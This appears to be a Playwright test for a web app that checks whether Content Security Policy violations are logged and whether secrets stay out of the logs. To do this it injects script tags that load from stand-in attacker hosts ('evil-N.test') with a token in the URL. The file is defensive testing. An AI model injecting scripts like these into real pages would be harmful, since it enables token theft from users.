import { afterAll, beforeAll, expect, test } from "vitest";
import type { Browser } from "playwright-core";
import { openBrowser } from "../test/browser.ts";
import { makeContext } from "../test/make/context.ts";
import { makeUser } from "../test/make/rows.ts";
import { enter } from "./make-people.ts";
import { startServer, type Server } from "./start-server.ts";

let context: Awaited<ReturnType<typeof makeContext>>;
let server: Server;
let browser: Browser;

beforeAll(async () => {
  context = await makeContext();
  [server, browser] = await Promise.all([
    startServer(context.databaseUrl, { LOG_LEVEL: "warn", DEMO: "0" }),
    openBrowser(),
  ]);
});
afterAll(async () => {
  await browser?.close();
  await server?.close();
  await context.close();
});

const reported = () =>
  server
    .text()
    .split("\n")
    .filter((line) => line.includes("csp.violation"))
    .map((line) => JSON.parse(line) as Record<string, unknown>);

test("content that a browser blocks on a cached page or a personal page is logged", async () => {
  const own = await browser.newContext({ baseURL: server.origin });
  await enter(own, context, server.origin, await makeUser(context));
  const page = await own.newPage();
  const pages = ["/guide?q=rahasia", "/guide", "/cart"];
  for (const [at, path] of pages.entries()) {
    await page.goto(path);
    await page.evaluate((n) => {
      const script = document.createElement("script");
      script.src = `https://evil-${n}.test/x.js?token=rahasia`;
      document.head.append(script);
    }, at);
    await expect.poll(() => reported().length).toBe(at + 1);
  }
  expect(reported()).toEqual(
    pages.map((path, at) =>
      expect.objectContaining({
        path: path.split("?")[0],
        directive: "script-src-elem",
        blocked: `https://evil-${at}.test`,
        from: "127.0.0.1",
      }),
    ),
  );
  expect(server.text()).not.toContain("rahasia");
  await own.close();
});
